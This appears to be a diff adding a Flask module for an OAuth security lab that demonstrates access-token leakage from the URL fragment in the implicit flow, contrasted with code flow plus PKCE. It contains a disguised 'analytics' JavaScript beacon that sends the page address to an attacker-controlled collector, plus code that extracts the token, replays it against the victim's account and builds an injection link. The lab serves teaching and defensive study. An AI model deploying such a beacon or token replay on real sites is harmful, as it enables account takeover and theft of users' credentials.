@@ -1,0 +1,108 @@
+"""Lab "implicit-leak": an access token in the page's fragment read by a third-party
+script, then injected elsewhere (RFC 9700 §4.3, §4.6); the code flow with PKCE
+leaves the page's address empty."""
+
+from __future__ import annotations
+
+import secrets
+from urllib.parse import parse_qs
+from urllib.parse import urlencode
+from urllib.parse import urlsplit
+
+from flask import Config
+from flask import Response
+from flask import redirect
+from flask import render_template
+from flask import request
+
+from . import client
+from .catalogue import Lab
+from .store import Run
+
+PIXEL = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01"
+         b"\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
+ANALYTICS = """(function () {
+  var beacon = new Image();
+  beacon.src = "%s?u=" + encodeURIComponent(window.location.href);
+}());
+"""
+
+
+def _implicit(run: Run, lab: Lab) -> bool:
+    return lab.variants[run.variant].response_type == "token"
+
+
+def start_login(run: Run, lab: Lab, config: Config) -> str:
+    """The implicit client asks for a token in the fragment (RFC 6749 §4.2.1); the
+    defended one is the framework's code flow with PKCE."""
+    if not _implicit(run, lab):
+        return client.start_login(run, lab, config)
+    state = run.client["state"] = secrets.token_urlsafe(24)
+    params = {**client.authorize_params(run, config, state), "response_type": "token"}
+    return client.authorize_url(run, lab) + "?" + urlencode(params)
+
+
+def finish_login(run: Run, lab: Lab, config: Config, args) -> Response:
+    """The redirect URI is the player page. An implicit response's fragment never
+    reaches the server; a code is redeemed first, then the page has a clean URL."""
+    if args.get("code") or args.get("error"):
+        client.finish_login(run, lab, config, args)
+        return redirect(request.base_url, 303)
+    if _implicit(run, lab):
+        run.record("callback", "victim", "front", client.received())
+    attacker = config["LABS_ATTACKER_URL"]
+    linked = run.client.get("linked")
+    page = render_template(
+        "labs/player.html", lab=lab, variant=lab.variants[run.variant],
+        analytics=f"{attacker}/labs/{run.lab}/{run.id}/as/analytics.js",
+        fragment_tokens=_implicit(run, lab), back=f"/labs/{run.lab}/{run.variant}",
+        status=f"Signed in as {linked}." if linked else "Reading the sign-in...")
+    policy = (f"default-src 'self'; script-src 'self' {attacker}; img-src 'self' "
+              f"{attacker}; style-src 'self'; connect-src 'self'; object-src 'none'; "
+              "base-uri 'none'; form-action 'self'; frame-ancestors 'none'")
+    return Response(page, headers={"Content-Security-Policy": policy,
+                                   "Cache-Control": "no-store"})
+
+
+def serve(run: Run, lab: Lab, endpoint: str, config: Config) -> Response:
+    """The attacker's "analytics": a script that reports the page's address, and
+    the collector, which tries any token it finds (RFC 6750 §2.1)."""
+    if endpoint == "analytics.js":
+        collect = f"{request.host_url}labs/{run.lab}/{run.id}/as/collect"
+        return Response(ANALYTICS % collect, mimetype="application/javascript")
+    if endpoint != "collect":
+        return Response("Not found", 404)
+    run.record("leak", "attacker", "front", client.received())
+    fragment = urlsplit(request.args.get("u", "")).fragment
+    token = parse_qs(fragment).get("access_token", [""])[0]
+    if token and not run.entries("attacker-me"):
+        run.attacker["token"] = token
+        client.call_me(run, config, token, key="attacker-me", actor="attacker")
+    return Response(PIXEL, mimetype="image/gif", headers={"Cache-Control": "no-store"})
+
+
+def attacker_view(run: Run, lab: Lab) -> dict:
+    """What the script reported, and Alice's token ready to inject."""
+    leaks = run.entries("leak")
+    if not leaks:
+        return {}
+    reported = parse_qs(urlsplit(leaks[-1].exchange.request.start_line.split(" ")[1])
+                        .query).get("u", [""])[0]
+    if not run.attacker.get("token"):
+        return {"heading": "The analytics script reported an address",
+                "text": "It carries no token:", "shown": reported}
+    inject = (run.origin + client.callback_path(run.lab, run.variant)
+              + "#" + urlencode({"access_token": run.attacker["token"],
+                                 "token_type": "Bearer"}))
+    return {"heading": "Alice's access token, reported by the analytics script",
+            "text": f"The script sent this page address: {reported}",
+            "link": inject, "link_text": "Open the player with Alice's token"}
+
+
+def succeeded(run: Run) -> bool | None:
+    """On the wire: did the attacker get a token that reads Alice's account?"""
+    if not run.entries("leak"):
+        return None
+    me = run.entries("attacker-me")
+    return bool(me) and me[-1].exchange.response is not None and \
+        me[-1].exchange.response.start_line.split(" ")[1] == "200"
